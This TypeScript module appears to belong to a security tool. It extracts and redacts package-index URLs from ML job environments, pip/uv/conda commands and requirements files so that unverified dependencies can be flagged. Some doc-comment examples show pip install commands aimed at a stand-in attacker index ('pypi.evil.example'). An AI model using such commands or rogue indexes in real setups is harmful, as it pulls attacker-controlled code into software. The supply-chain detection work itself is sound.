import { parse as parseYaml } from 'yaml';
import { redactUrlSecrets } from '../secrets.js';
import { shellCommands } from './shell-words.js';
import { mapElements, mapValues } from '../copy-on-write.js';

/**
 * Where a job's Python packages come from, as its request says: the package indexes pip or uv is pointed at
 * (`--index-url`, `PIP_INDEX_URL`…) and the requirements it fetches from a URL (`git+https://…`, a wheel's URL).
 * Connectors read them from a job's environment and its pip command; `training.unverified_dependency` judges them.
 * URLs are kept without credentials (an index URL often carries a token: `https://user:tok@artifactory/…`).
 */

/** pip's and uv's variables that name an index or a links page (pip: whitespace-separated lists; uv: spaces or commas). */
const INDEX_ENV = new Set([
  'PIP_INDEX_URL', 'PIP_EXTRA_INDEX_URL', 'PIP_FIND_LINKS',
  'UV_INDEX_URL', 'UV_EXTRA_INDEX_URL', 'UV_DEFAULT_INDEX', 'UV_INDEX', 'UV_FIND_LINKS',
]);

const URL = /^[a-z][a-z0-9+.-]*:\/\//i;

/** A URL as kept in an event: user-info and secret query values hidden. */
const shown = (url: string): string => redactUrlSecrets(url);

/** The URLs of one env value: a list split on blanks and commas, uv's `name=url` entries read as their URL. */
function urlsOfValue(value: string): string[] {
  return value.split(/[\s,]+/).map((t) => t.replace(/^[\w.-]+=(?=[a-z][a-z0-9+.-]*:\/\/)/i, '')).filter((t) => URL.test(t));
}

/**
 * The package sources an environment names: `{NAME: value}` (SageMaker `Environment`) or `[{name, value}]`
 * (a Kubernetes / Vertex `env` list).
 *
 * @example
 * packageSourcesOfEnv({ PIP_EXTRA_INDEX_URL: 'https://u:p@pypi.corp.example/simple' }) // ['https://[redacted]@pypi.corp.example/simple']
 */
export function packageSourcesOfEnv(env: unknown): string[] {
  const pairs: Array<[string, unknown]> = Array.isArray(env)
    ? env.flatMap((e) => (e && typeof e === 'object' && typeof (e as { name?: unknown }).name === 'string' ? [[(e as { name: string }).name, (e as { value?: unknown }).value] as [string, unknown]] : []))
    : env && typeof env === 'object' ? Object.entries(env) : [];
  const out: string[] = [];
  for (const [name, value] of pairs) if (INDEX_ENV.has(name.toUpperCase()) && typeof value === 'string') out.push(...urlsOfValue(value));
  return [...new Set(out.map(shown))];
}

/**
 * Options of pip, uv, poetry and conda whose value is an index, a links page, a channel or a requirements file (what
 * they fetch from): `--index-url`, uv's `--index` / `--default-index`, pip's `-r https://…/requirements.txt` (whose
 * own `--extra-index-url` lines cannot be read here, so its URL is judged), conda's `--channel`.
 */
const SOURCE_LONG = ['--index-url', '--extra-index-url', '--find-links', '--index', '--default-index', '--requirement', '--constraint', '--channel'];
const SOURCE_SHORT = new Set(['-i', '-f', '-r', '-c']);
/** Options whose value is a URL that is no package source (a proxy, a host to trust): their value is skipped. */
const OTHER_VALUE_OPTIONS = new Set(['--trusted-host', '--proxy', '--cert', '--client-cert', '--log', '--cache-dir', '--src', '--target', '-t', '--prefix', '--root']);

/**
 * pip reads an unambiguous prefix of a long option as the option (optparse): `--extra-index https://…` is
 * `--extra-index-url`. A prefix of three letters or more of a source option is read as it.
 */
const sourceOptionOf = (name: string): string | undefined => SOURCE_LONG.find((o) => o === name) ?? (name.length >= 5 ? SOURCE_LONG.find((o) => o.startsWith(name)) : undefined);

/** pip itself: `pip`, `pip3`, `pip3.11`, a path to one (`/opt/venv/bin/pip`). */
const PIP = /^(?:.*\/)?pip(?:\d+(?:\.\d+)*)?(?:\.exe)?$/;
/** Installers whose every argument is read: uv (`uv pip install`, `uv add`, `uvx --from`), pipx, poetry (`poetry source add`), conda and its kin. */
const INSTALLER = /^(?:.*\/)?(?:uvx?|pipx|poetry|conda|mamba|micromamba)(?:\.exe)?$/;
/** conda and its kin: their `-c` / `--channel` is a channel (a name or a URL), pip's `-c` a constraints file. */
const CONDA = /^(?:.*\/)?(?:conda|mamba|micromamba)(?:\.exe)?$/;

/**
 * What one container's request says about its package sources, as it is read: the sources seen (URLs, `conda:<name>`
 * channels), the ones it hides (`unverifiable`), the variables it sets literally (its env, the script's assignments:
 * what `$IDX` resolves to), the variables whose value it hides (an env `valueFrom`: where from), and the files its
 * script downloads (`curl -o r.txt URL`: file → URL).
 */
interface Reading {
  sources: string[];
  unverifiable: string[];
  vars: Map<string, string>;
  hiddenVars: Map<string, string>;
  /** Variables set from a default of a variable the request does not set (`X=${IDX:-https://…}`): X → [IDX]. */
  overridable: Map<string, string[]>;
  fetched: Map<string, string>;
}

const newReading = (): Reading => ({ sources: [], unverifiable: [], vars: new Map(), hiddenVars: new Map(), overridable: new Map(), fetched: new Map() });

/**
 * `$NAME`, `${NAME}`, `${NAME:-default}` (and the shell's other `${NAME<op>word}` forms) and Kubernetes' `$(NAME)` in
 * command, args and env values: 1 the braced name, 2 its operator, 3 its word, 4 Kubernetes' name, 5 the bare name.
 */
const VAR_REF = /\$(?:\{([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-=?+])([^}]*))?\}|\(([A-Za-z_][A-Za-z0-9_]*)\)|([A-Za-z_][A-Za-z0-9_]*))/g;

const COMMAND_OUTPUT = 'a command substitution';

/** How deep a default's own variables are expanded (`${A:-${B:-…}}` is rare; a loop of assignments must end). */
const MAX_EXPAND_DEPTH = 4;

/**
 * `value` with the variables the request sets literally replaced, the names it leaves unresolved, and the names whose
 * default it put in their place: `${IDX:-https://…}` (also `${IDX-…}`, `${IDX:=…}`) of a variable the request does not
 * set is its default, which is what runs when the job's environment does not set it either (`defaulted`: the value
 * may still be overridden there). `${NAME:+word}` and `${NAME:?}` of an unknown variable stay unresolved.
 */
function expand(value: string, r: Reading, depth = 0): { text: string; unresolved: string[]; defaulted: string[] } {
  const unresolved: string[] = [];
  const defaulted: string[] = [];
  const text = value.replace(VAR_REF, (m, a?: string, op?: string, word?: string, b?: string, c?: string) => {
    const name = (a ?? b ?? c)!;
    const v = r.vars.get(name);
    const useDefault = op !== undefined && /[-=]$/.test(op);
    if (v !== undefined && !v.includes('$')) {
      // `${NAME:-word}` of a variable set empty is the word too.
      if (useDefault && op.startsWith(':') && v === '') return word ?? '';
      defaulted.push(...(r.overridable.get(name) ?? []));
      return v;
    }
    if (useDefault && v === undefined && depth < MAX_EXPAND_DEPTH && !r.hiddenVars.has(name)) {
      const inner = expand(word ?? '', r, depth + 1);
      unresolved.push(...inner.unresolved);
      defaulted.push(name, ...inner.defaulted);
      return inner.text;
    }
    unresolved.push(name);
    return m;
  });
  // What is left (`$(cat /run/secrets/idx)`, a backquoted command) is a value only the running job knows.
  if (/[$`]/.test(text) && !unresolved.length) unresolved.push(COMMAND_OUTPUT);
  return { text, unresolved, defaulted };
}

/** Why a variable's value is unknown: where the env takes it from, else that the request does not set it. */
function whyHidden(names: readonly string[], r: Reading): string {
  return [...new Set(names)].map((n) => (r.hiddenVars.has(n) ? `${n} from ${r.hiddenVars.get(n)}` : n === COMMAND_OUTPUT ? 'the output of a command' : `${n} not set in the request`)).join(', ');
}

/** A URL whose host the request names literally (its credentials may come from a variable: `https://$TOKEN@host/…`). */
const hostIsLiteral = (url: string): boolean => !/[$`]/.test(packageSourceLocation(url).host);

/**
 * Reads the value of a source option or variable (`what`: `--index-url`, `PIP_INDEX_URL`): its URLs into the sources,
 * resolved through the variables the request sets; a value only the running job knows into `unverifiable`. A
 * requirements file the script downloaded (`-r r.txt` after `curl -o r.txt URL`) is judged by its URL, as
 * `-r URL`; a conda channel name becomes `conda:<name>`.
 */
function readValue(what: string, raw: string, r: Reading, kind: 'index' | 'requirement' | 'channel' = 'index'): void {
  const { text, unresolved, defaulted } = /[$`]/.test(raw) ? expand(raw, r) : { text: raw, unresolved: [], defaulted: [] };
  let hidden = false;
  for (const token of text.split(kind === 'channel' ? /[\s]+/ : /[\s,]+/)) {
    if (!token) continue;
    const url = token.replace(/^[\w.-]+=(?=[a-z][a-z0-9+.-]*:\/\/)/i, '');
    if (URL.test(url)) {
      if (hostIsLiteral(url)) r.sources.push(url);
      else hidden = true;
    } else if (/[$`]/.test(token)) hidden = true;
    else if (kind === 'requirement') {
      const from = r.fetched.get(token.replace(/^\.\//, ''));
      if (from !== undefined) readValue(`${what} ${token} downloaded from`, from, r);
    } else if (kind === 'channel') {
      for (const name of token.split(',')) if (name && name !== 'local' && !name.startsWith('/') && !name.startsWith('.')) r.sources.push(`conda:${name}`);
    }
  }
  if (hidden) r.unverifiable.push(`${what} ${raw}: ${whyHidden(unresolved.length ? unresolved : [COMMAND_OUTPUT], r)}`);
  // Its default was judged above, as what runs when the job's environment does not set the variable; that it may
  // set it (a value the request does not show) is said too.
  else if (defaulted.length) r.unverifiable.push(`${what} ${raw}: ${whyHidden(defaulted, r)} (it may override the default, which is judged)`);
}

/** Where the installer's arguments start in a command's words (after `pip`, `python -m pip`, `python -mpip`, `uv`…), -1 when none runs. */
function installerArgsStart(words: readonly string[]): number {
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (PIP.test(w) || INSTALLER.test(w) || w === '-mpip') return i + 1;
    if (w === '-m' && words[i + 1] === 'pip') return i + 2;
  }
  return -1;
}

/** `pip config set global.index-url URL` (also `extra-index-url`, `find-links`): the config every later pip reads. */
function pipConfigSet(args: readonly string[], r: Reading): void {
  const at = args.indexOf('set');
  if (args.indexOf('config') < 0 || at < 0) return;
  const key = args[at + 1] ?? '';
  if (/(?:^|\.)(?:index-url|extra-index-url|find-links)$/.test(key)) readValue(`pip config set ${key}`, args[at + 2] ?? '', r);
}

/** The sources an installer's arguments name: source options (`--opt URL`, `--opt=URL`, `-iURL`), URL requirements (`git+https://…`, `pkg@https://…`), conda's `channel::pkg`. */
function sourcesOfArgs(args: readonly string[], runsProgram: boolean, conda: boolean, r: Reading): void {
  const kindOf = (option: string): 'index' | 'requirement' | 'channel' =>
    option === '--channel' || (conda && option === '-c') ? 'channel' : option === '--requirement' || option === '--constraint' || option === '-r' || option === '-c' ? 'requirement' : 'index';
  // `uv run`, `poetry run`, `pipx run`, `conda run`, `uvx`: the URLs after their program are its own arguments
  // (`uv run serve.py --tracking https://…`), not requirements; source options are read wherever they are.
  let running = runsProgram;
  let program = false;
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!;
    if (!running && t === 'run' && args.slice(0, i).every((a) => a.startsWith('-'))) {
      running = true;
      continue;
    }
    if (program && !t.startsWith('-')) continue;
    if (running && !t.startsWith('-') && !URL.test(t)) {
      program = true;
      continue;
    }
    if (t.startsWith('--')) {
      const eq = t.indexOf('=');
      const name = eq < 0 ? t : t.slice(0, eq);
      const option = sourceOptionOf(name);
      if (option) readValue(name, eq < 0 ? (args[++i] ?? '') : t.slice(eq + 1), r, kindOf(option));
      else if (eq < 0 && OTHER_VALUE_OPTIONS.has(name)) i++;
    } else if (t.startsWith('-') && t.length > 1) {
      const short = t.slice(0, 2);
      if (SOURCE_SHORT.has(short)) readValue(short, t.length > 2 ? t.slice(2).replace(/^=/, '') : (args[++i] ?? ''), r, kindOf(short));
      else if (OTHER_VALUE_OPTIONS.has(t)) i++;
    } else if (URL.test(t)) r.sources.push(t);
    else if (conda && /^[\w.-]+(?:\/[\w.-]+)*::/.test(t)) r.sources.push(`conda:${t.slice(0, t.indexOf('::'))}`);
    else {
      // PEP 508 `name @ url` may be written without blanks (`pkg[extra]@https://…`).
      const at = t.indexOf('@');
      if (at > 0 && URL.test(t.slice(at + 1).trimStart())) r.sources.push(t.slice(at + 1).trimStart());
    }
  }
}

/** pip's and uv's variables naming a config file: what it says (an index) is in a file the request does not show. */
const CONFIG_FILE_ENV = new Set(['PIP_CONFIG_FILE', 'UV_CONFIG_FILE']);
/** conda's channel list as a variable (comma-separated, like any conda setting as `CONDA_<KEY>`). */
const CONDA_CHANNELS_ENV = 'CONDA_CHANNELS';

/** Reads one variable a container sets to `value` (env entry, assignment, `export`): an index, a config file, a conda channel list. */
function readVariable(name: string, value: string, r: Reading): void {
  const upper = name.toUpperCase();
  if (INDEX_ENV.has(upper)) readValue(name, value, r);
  else if (upper === CONDA_CHANNELS_ENV) readValue(name, value, r, 'channel');
  // pip reads no config file at all when PIP_CONFIG_FILE is os.devnull (pip's configuration docs).
  else if (CONFIG_FILE_ENV.has(upper) && value && value !== '/dev/null') r.unverifiable.push(`${name}=${value}: a config file the request does not show`);
}

const ASSIGNMENT = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s;

/**
 * `PIP_INDEX_URL=…` as a command's prefix assignment or an `export` / `env` argument (anywhere in the command, as
 * before: `env PIP_INDEX_URL=… pip`): pip reads it as from the env. The assignments of a bare `NAME=…` command, of
 * `export` and a command's prefix also set the variable a later `$NAME` resolves to.
 */
function sourcesOfAssignments(words: readonly string[], r: Reading): void {
  const first = words.findIndex((w) => !ASSIGNMENT.test(w));
  const setting = first < 0 ? words.length : words[first] === 'export' || words[first] === 'env' || words[first] === 'declare' ? words.length : first;
  words.forEach((w, i) => {
    const m = ASSIGNMENT.exec(w);
    if (!m) return;
    readVariable(m[1]!, m[2]!, r);
    if (i >= setting) return;
    const e = /[$`]/.test(m[2]!) ? expand(m[2]!, r) : undefined;
    r.vars.set(m[1]!, e ? e.text : m[2]!);
    if (e?.defaulted.length) r.overridable.set(m[1]!, [...new Set(e.defaulted)]);
    else r.overridable.delete(m[1]!);
    r.hiddenVars.delete(m[1]!);
  });
}

/** `curl -o r.txt URL`, `curl -O URL`, `wget -O r.txt URL`, `curl URL > r.txt`: the file a download writes, and its URL. */
function downloadOf(words: readonly string[]): { file: string; url: string } | undefined {
  const tool = words[0]?.replace(/^.*\//, '');
  if (tool !== 'curl' && tool !== 'wget') return undefined;
  let file: string | undefined;
  let url: string | undefined;
  let remoteName = tool === 'wget';
  for (let i = 1; i < words.length; i++) {
    const w = words[i]!;
    if (w === '>' || w === '>>') file = words[++i];
    else if (/^>>?[^>]/.test(w)) file = w.replace(/^>>?/, '');
    else if ((tool === 'curl' && (w === '-o' || w === '--output')) || (tool === 'wget' && (w === '-O' || w === '--output-document'))) file = words[++i];
    else if (tool === 'curl' && w.startsWith('--output=')) file = w.slice(9);
    else if (tool === 'wget' && w.startsWith('--output-document=')) file = w.slice(18);
    else if ((tool === 'curl' && /^-o./.test(w)) || (tool === 'wget' && /^-O./.test(w))) file = w.slice(2);
    else if (tool === 'curl' && (w === '-O' || w === '--remote-name')) remoteName = true;
    else if (!url && (URL.test(w) || /^\$/.test(w))) url = w;
  }
  if (!url) return undefined;
  file ??= remoteName ? url.replace(/[?#].*$/, '').replace(/^.*\//, '') : undefined;
  return file && file !== '-' ? { file: file.replace(/^\.\//, ''), url } : undefined;
}

/** Reads one command's words. */
function sourcesOfWords(words: readonly string[], r: Reading): void {
  sourcesOfAssignments(words, r);
  const download = downloadOf(words);
  if (download) r.fetched.set(download.file, download.url);
  const start = installerArgsStart(words);
  if (start < 0) return;
  const args = words.slice(start);
  const installer = words[start - 1]!;
  if ((PIP.test(installer) || installer === '-mpip') && args.includes('config')) return pipConfigSet(args, r);
  sourcesOfArgs(args, /(?:^|\/)uvx(?:\.exe)?$/.test(installer), CONDA.test(installer), r);
}

/** A pip config file (`pip.conf`, `pip.ini`) written by the script (`printf '[global]\\nindex-url = …' > /etc/pip.conf`): its index keys. */
const CONFIG_INDEX_KEY = /(?:^|[\s'"]|\\n)(?:extra[-_])?(?:index[-_]url|find[-_]links)\s*[=:]\s*['"]?([a-z][a-z0-9+.-]*:\/\/[^\s'"\\]+)/gi;

/** Every string a command can name a source in names one of these (case aside); `$` and `curl`/`wget` only matter beside one. */
const MAY_INSTALL = /pip|uv|poetry|conda|mamba|index|find[-_]links/i;

/** Reads a container's command and args into `r` (see packageSourcesOfCommand). */
function readCommand(parts: readonly unknown[], r: Reading): void {
  const strings = parts.filter((p): p is string => typeof p === 'string');
  if (strings.some((s) => MAY_INSTALL.test(s))) sourcesOfWords(strings, r);
  for (const part of strings) readScript(part, r, 0);
}

/** A shell, or `su`, whose `-c` (`-lc`, `-ec`…; su's `--command`) takes a script. */
const SHELL = /^(?:.*\/)?(?:(?:ba|z|da|k)?sh|su)$/;
/** How deep a script given to a shell's `-c` inside a script is read (`sudo su - u -c "bash -c '…'"`). */
const MAX_SCRIPT_DEPTH = 4;

/**
 * Reads one string as a shell script into `r`: its commands, a pip config file it writes, and the script a command of
 * it hands a shell (`sudo -u ec2-user bash -c 'conda create -c corp …'`, `su - u -c "pip install -i …"`), which was
 * one word of its command and went unread.
 */
function readScript(part: string, r: Reading, depth: number): void {
  // Most commands install nothing: the shell reading is skipped for a string naming no installer nor index.
  if (!MAY_INSTALL.test(part)) return;
  for (const words of shellCommands(part)) {
    sourcesOfWords(words, r);
    const shell = words.findIndex((w) => SHELL.test(w));
    if (shell < 0 || depth >= MAX_SCRIPT_DEPTH) continue;
    const flag = words.findIndex((w, i) => i > shell && (/^-[A-Za-z]*c$/.test(w) || w === '--command'));
    const script = flag < 0 ? undefined : words[flag + 1];
    if (script !== undefined) readScript(script, r, depth + 1);
  }
  for (const m of part.matchAll(CONFIG_INDEX_KEY)) r.sources.push(m[1]!);
}

/**
 * The package sources a container's command and args name: the index, links, channel and requirements options of
 * the installers it runs (pip, `python -m pip`, uv, poetry, conda) and the requirements it gives as URLs
 * (`git+https://…`, `pkg @ https://…/pkg.whl`), the index variables it sets (`PIP_INDEX_URL=… pip install`, `export`),
 * `pip config set global.index-url` and a pip config file it writes. Read from the whole list as one command
 * (exec form: `["pip", "install", "-i", URL]`) and from each string as a shell script (`sh -c "…"`), so a `-f` of
 * another command (`rm -f`) is not read. This is how a compiled KFP component installs its `packages_to_install` from
 * its `pip_index_urls`. A conda channel given by name is `conda:<name>`.
 *
 * @example
 * packageSourcesOfCommand(['sh', '-c', "python3 -m pip install --index-url https://pypi.evil.example/simple 'x' && \"$0\""]) // ['https://pypi.evil.example/simple']
 */
export function packageSourcesOfCommand(parts: readonly unknown[]): string[] {
  const r = newReading();
  readCommand(parts, r);
  return [...new Set(r.sources.map(shown))];
}

/** What a container's request says about where its packages come from: the sources seen, and the ones it hides. */
export interface PackageSourceFacts {
  /** As `ml.job.package_sources`: index and requirement URLs (credentials hidden), `conda:<name>` channels. */
  sources: string[];
  /**
   * As `ml.job.package_sources_unverifiable`: the indexes the request names but does not show, what and why
   * (`--index-url ${PIP_URL}: PIP_URL not set in the request`, `PIP_INDEX_URL: from secretKeyRef pip/url`,
   * `PIP_CONFIG_FILE=/etc/pip/pip.conf: a config file the request does not show`).
   */
  unverifiable: string[];
}

/** A Kubernetes env entry's `valueFrom`, said briefly: `secretKeyRef pip-index/url`, `configMapKeyRef cm/key`, `fieldRef`. */
function valueFromOf(from: unknown): string {
  if (!from || typeof from !== 'object') return 'valueFrom';
  const [kind, ref] = Object.entries(from as Record<string, unknown>)[0] ?? ['valueFrom', undefined];
  const o = ref && typeof ref === 'object' ? (ref as Record<string, unknown>) : {};
  const name = [o.name, o.key].filter((x): x is string => typeof x === 'string').join('/');
  return name ? `${kind} ${name}` : kind;
}

/**
 * The package sources of one container (a Kubernetes / Vertex container, a SageMaker job's `Environment`): its env
 * (`{NAME: value}` or `[{name, value | valueFrom}]`) and its command and args read together, so `pip install -i $IDX`
 * resolves `IDX` from the env entry or the script's assignment that sets it literally, and is judged by its value.
 * Unknowable, listed in `unverifiable`: an index from a variable the request does not set literally (`-i $IDX`,
 * `--index-url "${PIP_URL}"`), an index variable taken `valueFrom` a Secret or ConfigMap, `PIP_CONFIG_FILE` /
 * `UV_CONFIG_FILE` naming a file (not `/dev/null`), a requirements file the script downloads from a hidden URL.
 * A plain `pip install -r requirements.txt` names no index: PyPI, nothing listed.
 *
 * @example
 * packageSourceFactsOf({ env: [{ name: 'PIP_INDEX_URL', valueFrom: { secretKeyRef: { name: 'pip', key: 'url' } } }], command: ['pip', 'install', 'x'] })
 * // { sources: [], unverifiable: ['PIP_INDEX_URL: from secretKeyRef pip/url'] }
 */
export function packageSourceFactsOf(container: { env?: unknown; command?: readonly unknown[] }): PackageSourceFacts {
  const r = newReading();
  const env = container.env;
  const entries: Array<{ name: string; value?: unknown; valueFrom?: unknown }> = Array.isArray(env)
    ? env.filter((e): e is { name: string } => !!e && typeof e === 'object' && typeof (e as { name?: unknown }).name === 'string')
    : env && typeof env === 'object' ? Object.entries(env).map(([name, value]) => ({ name, value })) : [];
  // Every variable first: Kubernetes expands `$(NAME)` in command and args from the whole env.
  for (const e of entries) {
    if (typeof e.value === 'string') r.vars.set(e.name, e.value);
    else if (e.valueFrom !== undefined) r.hiddenVars.set(e.name, valueFromOf(e.valueFrom));
  }
  for (const e of entries) {
    const upper = e.name.toUpperCase();
    if (typeof e.value === 'string') readVariable(e.name, e.value, r);
    else if (e.valueFrom !== undefined && (INDEX_ENV.has(upper) || CONFIG_FILE_ENV.has(upper) || upper === CONDA_CHANNELS_ENV)) r.unverifiable.push(`${e.name}: from ${valueFromOf(e.valueFrom)}`);
  }
  if (container.command?.length) readCommand(container.command, r);
  return { sources: [...new Set(r.sources.map(shown))], unverifiable: [...new Set(r.unverifiable.map(shown))] };
}

/** Bytes of a requirements or environment file read for its sources: an MLflow model's are a few hundred. */
export const MAX_ENVIRONMENT_FILE_BYTES = 256 * 1024;

/** Reads the lines of a pip requirements file into `r`: option lines and URL requirements (see packageSourceFactsOfRequirements). */
function readRequirementLines(lines: readonly string[], r: Reading): void {
  for (const raw of lines) {
    // pip: a comment starts a line or follows whitespace; `\`-newline continuations were joined by the caller.
    const line = raw.replace(/(^|\s)#.*$/, '').trim();
    if (line) sourcesOfArgs(line.split(/\s+/), false, false, r);
  }
}

/**
 * The package sources of a pip requirements file (an MLflow model's `requirements.txt`, which its `pyfunc` env restore
 * installs from): `--index-url` / `-i`, `--extra-index-url`, `--find-links` / `-f`, a `-r` / `-c` URL, URL requirements
 * (`git+https://…`, `pkg @ https://…`). A `${VAR}` pip would expand from the environment is unverifiable.
 *
 * @example
 * packageSourceFactsOfRequirements('--extra-index-url https://pypi.evil.example/simple\nmlflow==2.17.0\n') // { sources: ['https://pypi.evil.example/simple'], unverifiable: [] }
 */
export function packageSourceFactsOfRequirements(text: string): PackageSourceFacts {
  const r = newReading();
  readRequirementLines(text.slice(0, MAX_ENVIRONMENT_FILE_BYTES).replace(/\\\r?\n/g, ' ').split(/\r?\n/), r);
  return { sources: [...new Set(r.sources.map(shown))], unverifiable: [...new Set(r.unverifiable.map(shown))] };
}

/**
 * The package sources of a conda environment file (an MLflow model's `conda.yaml`) or MLflow's `python_env.yaml`:
 * `channels:` (a URL, or a name as `conda:<name>`; `nodefaults` and `local` download nothing), the requirement lines of
 * `dependencies:`' `pip:` section, and `python_env.yaml`'s `dependencies:` lines (read as requirements). A file
 * that is no YAML mapping names nothing.
 *
 * @example
 * packageSourceFactsOfCondaYaml('channels: [conda-forge, some-user]\ndependencies: [python=3.11, {pip: [mlflow]}]') // { sources: ['conda:conda-forge', 'conda:some-user'], unverifiable: [] }
 */
export function packageSourceFactsOfCondaYaml(text: string): PackageSourceFacts {
  const r = newReading();
  let doc: unknown;
  try {
    doc = parseYaml(text.slice(0, MAX_ENVIRONMENT_FILE_BYTES), { maxAliasCount: 20 });
  } catch {
    return { sources: [], unverifiable: [] };
  }
  if (!doc || typeof doc !== 'object' || Array.isArray(doc)) return { sources: [], unverifiable: [] };
  const o = doc as Record<string, unknown>;
  const strings = (v: unknown): string[] => (Array.isArray(v) ? v.filter((x): x is string => typeof x === 'string') : []);
  for (const channel of strings(o.channels)) if (channel !== 'nodefaults') readValue('channels:', channel, r, 'channel');
  const deps = Array.isArray(o.dependencies) ? o.dependencies : [];
  // conda.yaml: pip's lines under `- pip: [...]`; python_env.yaml: the dependencies are pip's lines themselves.
  const pipLines = deps.flatMap((d) => (d && typeof d === 'object' && !Array.isArray(d) ? strings((d as Record<string, unknown>).pip) : []));
  const plain = strings(deps).filter((d) => d.startsWith('-') || /:\/\//.test(d));
  readRequirementLines([...pipLines, ...plain], r);
  // A conda spec naming its channel (`some-user::helpers`).
  for (const d of strings(deps)) if (/^[\w.-]+(?:\/[\w.-]+)*::/.test(d)) r.sources.push(`conda:${d.slice(0, d.indexOf('::'))}`);
  return { sources: [...new Set(r.sources.map(shown))], unverifiable: [...new Set(r.unverifiable.map(shown))] };
}

/**
 * Host and path of a package source URL, what its allow-list globs match: scheme (`git+https://`), user-info,
 * port, query and fragment left out, the host lower-cased.
 *
 * @example
 * packageSourceLocation('git+https://[redacted]@github.com/org/repo.git@v1') // { host: 'github.com', path: 'org/repo.git@v1' }
 */
export function packageSourceLocation(url: string): { host: string; path: string } {
  const rest = url.replace(URL, '').replace(/[?#].*$/, '');
  const slash = rest.indexOf('/');
  const authority = slash < 0 ? rest : rest.slice(0, slash);
  return { host: authority.slice(authority.lastIndexOf('@') + 1).replace(/:\d*$/, '').toLowerCase(), path: slash < 0 ? '' : rest.slice(slash + 1) };
}

/** Where a container's command is kept: Kubernetes / Vertex `command` and `args`, SageMaker's `containerEntrypoint` and `containerArguments`. */
const COMMAND_KEYS = new Set(['command', 'args', 'containerEntrypoint', 'containerArguments']);

/** How deep redactPackageSourceSecrets looks (a CloudTrail record's container env sits 4-5 levels down). */
const MAX_REDACT_DEPTH = 16;

/**
 * `record` with the credentials of package sources hidden as `ml.job.package_sources` hides them: the values of the
 * index variables (`PIP_INDEX_URL`…, a `{NAME: value}` map or a `[{name, value}]` list) and the strings of `command`
 * / `args` (SageMaker `containerEntrypoint` / `containerArguments`) lists, their URL user-info and secret query values replaced by `[redacted]`. For the raw record of a job
 * whose package sources held one (a CloudTrail or Cloud Audit request logs the env as sent): the same record (===)
 * when nothing changed, else a copy.
 *
 * @example
 * redactPackageSourceSecrets({ environment: { PIP_INDEX_URL: 'https://u:tok@x.example/simple' } }) // { environment: { PIP_INDEX_URL: 'https://[redacted]@x.example/simple' } }
 */
export function redactPackageSourceSecrets<T>(record: T): T {
  const walk = (v: unknown, depth: number): unknown => {
    if (depth > MAX_REDACT_DEPTH || v === null || typeof v !== 'object') return v;
    if (Array.isArray(v)) return mapElements(v, (item) => walk(item, depth + 1));
    const o = v as Record<string, unknown>;
    const indexEntry = typeof o.name === 'string' && INDEX_ENV.has(o.name.toUpperCase());
    return mapValues(o, (val, k) => {
      if (typeof val === 'string') return INDEX_ENV.has(k.toUpperCase()) || (indexEntry && k === 'value') ? shown(val) : val;
      if (Array.isArray(val) && COMMAND_KEYS.has(k)) return mapElements(val, (s) => (typeof s === 'string' ? shown(s) : walk(s, depth + 1)));
      return walk(val, depth + 1);
    });
  };
  return walk(record, 0) as T;
}

/** Whether package sources (as kept, credentials hidden) held any: the raw record then needs redactPackageSourceSecrets. */
export const packageSourcesHeldSecrets = (sources: readonly unknown[] | undefined): boolean => !!sources?.some((s) => typeof s === 'string' && s.includes('[redacted]'));
